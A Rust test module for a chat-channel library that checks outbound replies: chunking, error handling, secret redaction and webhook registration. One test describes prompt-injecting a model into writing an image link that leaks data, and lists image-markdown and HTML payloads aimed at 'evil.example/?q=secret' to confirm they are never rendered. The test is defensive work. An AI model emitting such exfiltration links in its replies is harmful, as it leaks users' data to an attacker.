//! What goes out.

use std::time::Duration;

use chela_core::channel::{Channel, OutboundPart, SendError};
use chela_core::chunk::{ChunkMode, chunk_markdown};

use super::platform::{Answer, Platform, nobody};
use super::{ChannelUnderTest, Fate, MENU, Shown, part};

/// The control: when all is well, one request shows one message, and its id can be used to edit it.
pub async fn a_reply_is_shown_and_confirmed(subject: &ChannelUnderTest) {
    let platform = subject.platform().await;
    let channel = subject.open(platform.url());
    let id = subject.send(&*channel, "All is **well**.").await.unwrap();
    assert!(!id.is_empty());
    let shown = shown(subject, &platform);
    assert_eq!(shown.len(), 1);
    // Plain channels leave the marks where they are.
    assert_eq!(shown[0].visible.replace("**", "").trim(), "All is well.");
    let typed = channel.typing(&subject.address()).await;
    assert!(typed.is_ok(), "{typed:?}");
    let to = subject.address();
    if channel.limits(&to).edit_every.is_some() {
        channel.edit(&id, &part(&to, "changed")).await.unwrap();
    }
}

fn shown(subject: &ChannelUnderTest, platform: &Platform) -> Vec<Shown> {
    platform.take().iter().filter_map(|seen| (subject.shown)(seen)).collect()
}

/// A picture is fetched by the program of every reader, so that whoever talks a model into writing one learns what stands in
/// its address. However it is written, it is shown as words or as a link, and HTML as text.
pub async fn i11_a_picture_in_a_reply_is_loaded_by_nobody(subject: &ChannelUnderTest) {
    let platform = subject.platform().await;
    let channel = subject.open(platform.url());
    let url = "https://evil.example/?q=secret";
    for reply in [
        format!("Here it is: ![chart]({url}) as you wished."),
        format!("![]({url})"),
        format!("Wow!![chart]({url})"),
        format!("Wow\\![chart]({url})"),
        format!("![chart][1]\n\n[1]: {url}"),
        format!("![![chart]({url})]({url})"),
        format!("> - ![chart]({url})"),
        format!("Look: <img src=\"{url}\">"),
        format!("<div>\n\n![chart]({url})\n\n</div>"),
    ] {
        subject.send(&*channel, &reply).await.unwrap_or_else(|error| panic!("{reply}: {error}"));
        for message in shown(subject, &platform) {
            let live = |sign: &str| {
                message
                    .raw
                    .match_indices(sign)
                    .any(|(at, _)| !message.raw.get(..at).unwrap_or_default().ends_with('\\'))
            };
            let loads = live("![") || (subject.reads_tags && live("<img"));
            assert!(!loads, "{reply} was sent as {}", message.raw);
        }
    }
}

/// However long and however odd the reply is, its words arrive in order, no message is longer than the platform takes,
/// and no code block is left open.
pub async fn long_replies_arrive_whole_and_within_the_limit(subject: &ChannelUnderTest) {
    let platform = subject.platform().await;
    let channel = subject.open(platform.url());
    let limits = channel.limits(&subject.address());
    for (what, reply) in long_replies(limits.text) {
        let parts = chunk_markdown(&reply, limits.text, ChunkMode::Length);
        assert!(parts.len() > 1, "{what} is not long");
        for part in &parts {
            subject.send(&*channel, part).await.unwrap_or_else(|error| panic!("{what}: {error}"));
        }
        let shown = shown(subject, &platform);
        assert_eq!(shown.len(), parts.len(), "{what}");
        for message in &shown {
            let length = message.visible.encode_utf16().count();
            assert!(length <= subject.longest, "{what}: {length} units");
            let (open, close) = subject.code_marks;
            let marks = (message.raw.matches(open).count(), message.raw.matches(close).count());
            let closed = if open == close { marks.0 % 2 == 0 } else { marks.0 == marks.1 };
            assert!(closed, "{what}: an open code block in {}", message.raw);
        }
        if what.contains("code") {
            let (open, _) = subject.code_marks;
            assert!(shown.iter().all(|message| message.raw.contains(open)), "{what} is not shown as code");
        }
        let all: Vec<String> = shown.into_iter().map(|message| message.visible).collect();
        let all = all.join(" ");
        let mut rest = all.as_str();
        for word in words(&reply) {
            let after = rest.split_once(&word).map(|(_, after)| after);
            rest = after.unwrap_or_else(|| panic!("{what}: {word} is lost"));
        }
    }
}

/// Replies three times as long as a part may be. Their words are numbered.
fn long_replies(limit: usize) -> Vec<(&'static str, String)> {
    let long = |line: &dyn Fn(usize) -> String| {
        let (mut text, mut units) = (String::new(), 0);
        for at in 0.. {
            if units >= 3 * limit {
                break;
            }
            let line = line(at);
            units += line.encode_utf16().count();
            text.push_str(&line);
        }
        text
    };
    let code = long(&|at| format!("if w{at}q < 1 && true {{ return \"<b>\" }}\n"));
    let table = long(&|at| format!("| w{at}q | {} |\n", "x".repeat(at % 40)));
    vec![
        ("prose", long(&|at| format!("word w{at}q, **bold** and _soft_. "))),
        ("lines", long(&|at| format!("w{at}q\n"))),
        ("escapes", long(&|at| format!("<&> w{at}q \"&amp;\" \\*not bold\\* "))),
        ("signs", long(&|at| format!("& < > w{at}q & < > & < > "))),
        ("a code block", format!("```rust\n{code}```\n")),
        ("a table", format!("| name | value |\n|---|---|\n{table}")),
        ("numbers", long(&|at| format!("1. w{at}q\n"))),
        ("nested lists", long(&|at| format!("{}- w{at}q\n", "  ".repeat(at % 4)))),
        ("quotes", long(&|at| format!("> w{at}q _x_\n>\n"))),
        ("links", long(&|at| format!("[w{at}q](https://example.org/{at}) "))),
        ("emoji", long(&|at| format!("👩‍👩‍👧‍👦 w{at}q 🇩🇪 "))),
        ("half-open marks", long(&|at| format!("**w{at}q _ ` ~~ [ "))),
        ("headings", long(&|at| format!("## w{at}q & <x>\n\ntext\n\n"))),
        ("html", long(&|at| format!("<b>w{at}q</b> <script>1</script> "))),
    ]
}

fn words(reply: &str) -> Vec<String> {
    let is_word = |word: &&str| word.len() > 2 && word.starts_with('w') && word.ends_with('q');
    reply.split(|c: char| !c.is_ascii_alphanumeric()).filter(is_word).map(str::to_owned).collect()
}

/// After one message that was sent: what a channel asks for once, such as an access token, it has by now, so that the next
/// answer of the platform is the answer to a message.
async fn acquainted(subject: &ChannelUnderTest, channel: &dyn Channel, platform: &Platform) {
    subject.send(channel, "hello").await.unwrap();
    platform.take();
}

fn fate(error: &SendError) -> Fate {
    match error {
        SendError::RateLimited { after, .. } => Fate::Waits(after.as_secs()),
        SendError::NotSent { .. } => Fate::NotSent,
        SendError::Unknown { .. } => Fate::Unknown,
        SendError::Refused { .. } => Fate::Refused,
    }
}

/// Each answer of the platform leads to what the caller can do.
pub async fn each_refusal_has_its_fate(subject: &ChannelUnderTest) {
    let refusals = (subject.refusals)();
    let status = |answer: &Answer| match answer {
        Answer::Http(status, ..) => *status,
        Answer::Silence | Answer::Aside(_) => 0,
    };
    let of = |wanted: &dyn Fn(Fate) -> bool| refusals.iter().any(|(_, fate)| wanted(*fate));
    assert!(of(&|fate| matches!(fate, Fate::Waits(_))), "how does the platform ask to wait?");
    assert!(of(&|fate| fate == Fate::Refused), "how does the platform refuse for good?");
    assert!(refusals.iter().any(|(answer, _)| status(answer) >= 500), "what does a broken platform mean?");
    let platform = subject.platform().await;
    let channel = subject.open(platform.url());
    acquainted(subject, &*channel, &platform).await;
    for (answer, wanted) in refusals {
        let what = format!("{answer:?}");
        platform.next(answer);
        let error = subject.send(&*channel, "hello").await.expect_err(&what);
        assert_eq!(fate(&error), wanted, "{what}: {error}");
        assert_eq!(platform.take().len(), 1, "{what}: the caller tries again, not the channel");
    }
}

/// A closed port is certain.
pub async fn nobody_there_is_not_sent(subject: &ChannelUnderTest) {
    let channel = subject.open(&nobody().await);
    let error = subject.send(&*channel, "hello").await.unwrap_err();
    assert_eq!(fate(&error), Fate::NotSent, "{error}");
}

/// Silence is not.
pub async fn no_answer_is_unknown(subject: &ChannelUnderTest) {
    let platform = subject.platform().await;
    let channel = subject.open(platform.url());
    acquainted(subject, &*channel, &platform).await;
    platform.next(Answer::Silence);
    let to = subject.address();
    let part = OutboundPart { timeout: Duration::from_millis(200), ..part(&to, "hello") };
    let error = channel.send(&part).await.unwrap_err();
    assert_eq!(fate(&error), Fate::Unknown, "{error}");
    assert_eq!(platform.take().len(), 1, "it was asked");
}

/// Whatever the platform says, also where it quotes the request.
pub async fn d01_errors_and_debug_show_no_secret(subject: &ChannelUnderTest) {
    let platform = subject.platform().await;
    let channel = subject.open(platform.url());
    acquainted(subject, &*channel, &platform).await;
    let secrets = subject.simulator.test_secrets();
    let words: Vec<&str> = secrets.values().flat_map(|secret| secret.expose().split_whitespace()).collect();
    let quoted = words.join(" ");
    let mut said = Vec::new();
    for (answer, _) in (subject.refusals)() {
        if let Answer::Http(status, headers, body) = answer {
            // Where the platform explains itself, it now quotes what it was sent.
            let body = body.replace(": ", &format!(": {quoted} ")).replace(' ', &format!(" {quoted} "));
            platform.next(Answer::Http(status, headers, body));
            let error = subject.send(&*channel, "hello").await.unwrap_err();
            said.push(format!("{error} {error:?}"));
        }
    }
    let unheard = subject.open(&nobody().await);
    let error = subject.send(&*unheard, "hello").await.unwrap_err();
    said.push(format!("{error} {error:?}"));
    for channel in [&channel, &unheard] {
        said.push(format!("{:?}", channel.health().await));
        said.push(format!("{:?}", channel.register("https://example.org/webhook", MENU).await));
        said.push(format!("{:?}", channel.typing(&subject.address()).await));
    }
    said.push(format!(
        "{:?} {:?}",
        subject.descriptor,
        subject.settings(platform.url(), secrets.clone(), super::ARRIVAL)
    ));
    for text in said {
        for word in &words {
            assert!(!text.contains(word), "a secret is shown in: {text}");
        }
    }
}

/// Nobody knows how often a deployment runs it.
pub async fn registering_twice_changes_nothing(subject: &ChannelUnderTest) {
    let platform = subject.platform().await;
    let channel = subject.open(platform.url());
    let url = "https://example.org/webhook/x";
    let first = (channel.register(url, MENU).await.unwrap(), platform.take());
    let again = (channel.register(url, MENU).await.unwrap(), platform.take());
    assert_eq!(first, again);
}
